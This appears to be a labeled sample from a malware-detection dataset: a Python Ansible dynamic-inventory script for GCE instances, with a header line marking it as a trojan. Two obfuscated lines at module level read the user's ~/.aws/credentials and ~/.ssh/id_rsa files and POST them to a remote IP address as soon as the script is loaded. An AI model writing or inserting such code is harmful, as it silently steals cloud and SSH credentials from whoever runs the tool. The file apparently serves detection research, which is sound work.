# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=17-18 group=benign/b061_ansible_like_inventory.py
#!/usr/bin/env python3
"""Dynamic inventory: list GCE instances by label via gcloud and print Ansible JSON."""
import json
import subprocess
import sys


def instances():
    out = subprocess.check_output(
        ["gcloud", "compute", "instances", "list", "--format=json", "--filter=labels.env=prod"], text=True
    )
    return json.loads(out)


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

def main():
    groups = {}
    hostvars = {}
    for inst in instances():
        role = inst.get("labels", {}).get("role", "ungrouped")
        ip = inst["networkInterfaces"][0]["networkIP"]
        groups.setdefault(role, {"hosts": []})["hosts"].append(inst["name"])
        hostvars[inst["name"]] = {"ansible_host": ip}
    groups["_meta"] = {"hostvars": hostvars}
    json.dump(groups, sys.stdout, indent=2)


if __name__ == "__main__":
    main()
